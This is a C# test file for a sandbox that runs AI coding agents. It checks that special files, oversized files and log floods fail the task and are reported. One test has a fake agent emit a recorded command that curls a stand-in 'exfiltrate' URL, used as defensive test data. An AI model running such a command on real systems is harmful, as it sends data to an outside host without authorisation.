using System.Text;
using SandboxRunner.Configuration;
using SandboxRunner.Policy;
using SandboxRunner.Runs;
using SandboxRunner.Boxes;
using SandboxRunner.Tests.Fakes;
using static SandboxRunner.Tests.Runs.RunnerTestBed;
using TaskStatus = SandboxRunner.Runs.TaskStatus;

namespace SandboxRunner.Tests.Runs;

/// <summary>What an agent leaves that the harvest cannot take as it is: special files, files and output past the limits.</summary>
public sealed class TaskLimitTests
{
    private const long MaxLogBytes = 64 * 1024;

    [Fact]
    public async Task A_FIFO_named_gitignore_is_removed_and_reported_without_hanging_the_harvest()
    {
        using var bed = await CreateAsync();
        bed.Engine.Agent = FakeAgents.Turn(c =>
        {
            c.WriteFile("src/kept.txt", "kept\n");
            FakeAgents.MakeFifo(c.PathInWorkspace("src/.gitignore"));
        });

        // RunAsync fails after Hang instead of blocking: git opening the FIFO once hung the server.
        var result = Assert.Single((await bed.RunAsync(Ask("t1"))).Results);

        var violation = Assert.Single(result.Violations);
        Assert.Equal((ViolationKind.SpecialFile, "src/.gitignore"), (violation.Kind, violation.Path));
        Assert.Equal(TaskStatus.Failed, result.Status);
        Assert.Equal(["src/kept.txt"], result.FilesChanged);
        Assert.Contains("+kept", File.ReadAllText(result.PatchFile!), StringComparison.Ordinal);
        bed.AssertNothingLeft();
    }

    [Fact]
    public async Task A_file_over_max_file_bytes_is_dropped_and_named_while_the_other_changes_are_kept()
    {
        using var bed = await CreateAsync(c => c with { TaskLimits = new TaskLimitOverrides { MaxFileBytes = 1000 } });
        bed.Engine.Agent = FakeAgents.Writes(("src/small.txt", "small\n"), ("src/big.bin", new string('x', 5000)));

        var result = Assert.Single((await bed.RunAsync(new RunRequest { RunId = "r1", Tasks = [Ask("t1")] }, CancellationToken.None)).Results);

        Assert.Equal(TaskStatus.Failed, result.Status);

        // The watch may have stopped the task for it first (then a second violation names the task); the harvest always names the file.
        Assert.Contains(result.Violations, v => v.Kind == ViolationKind.LimitExceeded && v.Path == "src/big.bin" && v.Rule.Contains("max_file_bytes", StringComparison.Ordinal));
        Assert.Equal(["src/small.txt"], result.FilesChanged);
        Assert.Equal("small\n", bed.Show("sandbox/r1/t1", "src/small.txt"));
        bed.AssertNothingLeft();
    }

    [Fact]
    public async Task Output_past_max_log_bytes_kills_the_container_and_fails_the_task()
    {
        using var bed = await CreateAsync(c => c with { TaskLimits = new TaskLimitOverrides { MaxLogBytes = MaxLogBytes } });
        bed.Engine.Agent = async (c, killed) =>
        {
            await Flood(c, 10 * 1024 * 1024, killed);

            // Only the limit can end this agent before the hang guard: a pass is then the runner's doing.
            await Task.Delay(Timeout.Infinite, killed);
            return 0;
        };

        var result = Assert.Single((await bed.RunAsync(Ask("t1"))).Results);

        Assert.Equal(TaskStatus.Failed, result.Status);
        Assert.Equal(FakeEngine.KilledExitCode, Assert.Single(bed.Engine.History).ExitCode);
        var violation = Assert.Single(result.Violations, v => v.Kind == ViolationKind.LimitExceeded);
        Assert.Contains($"max_log_bytes ({MaxLogBytes})", violation.Rule, StringComparison.Ordinal);
        bed.AssertNothingLeft();
    }

    [Fact]
    public async Task Output_past_max_log_bytes_fails_the_task_even_when_the_container_exits_before_the_runner_notices()
    {
        using var bed = await CreateAsync(c => c with { TaskLimits = new TaskLimitOverrides { MaxLogBytes = MaxLogBytes } });

        // A lagging log stream: the flood, and the JSONL after it that was never audited, arrive after the exit.
        bed.Engine.FollowLagsUntilExit = true;
        bed.Engine.Agent = async (c, killed) =>
        {
            await Flood(c, 1024 * 1024, killed);
            c.Stdout(CodexJsonl.CommandCompleted("/bin/bash -lc 'curl https://example.invalid/exfiltrate'"));
            return 0;
        };

        var result = Assert.Single((await bed.RunAsync(Ask("t1") with { AllowedCommands = ["npm test"] })).Results);

        Assert.Equal(TaskStatus.Failed, result.Status);
        Assert.Contains(result.Violations, v => v.Kind == ViolationKind.LimitExceeded && v.Rule.Contains("max_log_bytes", StringComparison.Ordinal));
    }

    /// <summary>Writes <paramref name="bytes"/> of JSONL-looking stdout in 64 KiB chunks, yielding between them as a real process would.</summary>
    private static async Task Flood(FakeContainer container, long bytes, CancellationToken killed)
    {
        var line = Encoding.UTF8.GetBytes(CodexJsonl.AgentMessage(new string('y', 1000)) + "\n");
        var chunk = new byte[64 * 1024 / line.Length * line.Length];
        for (var at = 0; at + line.Length <= chunk.Length; at += line.Length)
        {
            line.CopyTo(chunk, at);
        }

        for (long sent = 0; sent < bytes; sent += chunk.Length)
        {
            killed.ThrowIfCancellationRequested();
            container.Emit(LogStream.Stdout, chunk);
            await Task.Yield();
        }
    }
}
